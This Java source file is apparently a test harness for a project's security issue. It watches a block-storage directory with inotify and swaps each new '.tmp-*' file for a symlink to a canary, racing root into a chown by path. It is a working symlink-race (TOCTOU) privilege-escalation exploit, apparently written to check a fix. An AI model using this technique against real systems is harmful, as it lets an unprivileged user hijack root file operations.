package dev.vipfs.cli;

import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;
import java.nio.file.WatchEvent;
import java.nio.file.WatchKey;
import java.nio.file.WatchService;
import java.util.concurrent.TimeUnit;

/**
 * The fast half of the issue #15.1 attacker, run as the service user: told by inotify the moment
 * a `.tmp-*` block file appears, it replaces it with a symlink to the canary, hoping root still
 * acts on that name (a chown by path) afterwards. Args: blocks dir, canary, seconds, stop file.
 */
public final class TmpSwapper {
    private TmpSwapper() { }

    public static void main(String[] args) throws Exception {
        Path blocks = Path.of(args[0]);
        Path canary = Path.of(args[1]);
        long end = System.nanoTime() + Long.parseLong(args[2]) * 1_000_000_000L;
        Path stop = Path.of(args[3]);
        int swaps = 0;
        try (WatchService ws = FileSystems.getDefault().newWatchService()) {
            blocks.register(ws, StandardWatchEventKinds.ENTRY_CREATE);
            try (var s = Files.list(blocks)) {
                for (Path d : (Iterable<Path>) s::iterator) {
                    if (Files.isDirectory(d, LinkOption.NOFOLLOW_LINKS)) {
                        d.register(ws, StandardWatchEventKinds.ENTRY_CREATE);
                    }
                }
            }
            System.out.println("watching");
            while (System.nanoTime() < end && !Files.exists(stop)) {
                WatchKey key = ws.poll(100, TimeUnit.MILLISECONDS);
                if (key == null) {
                    continue;
                }
                Path dir = (Path) key.watchable();
                for (WatchEvent<?> e : key.pollEvents()) {
                    if (!(e.context() instanceof Path name)) {
                        continue;
                    }
                    Path p = dir.resolve(name);
                    try {
                        if (dir.equals(blocks) && Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
                            p.register(ws, StandardWatchEventKinds.ENTRY_CREATE);
                        } else if (name.toString().startsWith(".tmp-") && !Files.isSymbolicLink(p)) {
                            Files.delete(p);
                            Files.createSymbolicLink(p, canary);
                            swaps++;
                        }
                    } catch (java.io.IOException lost) {
                        // renamed or removed first: the race goes on
                    }
                }
                key.reset();
            }
        }
        System.out.println("tmpswaps=" + swaps);
    }
}
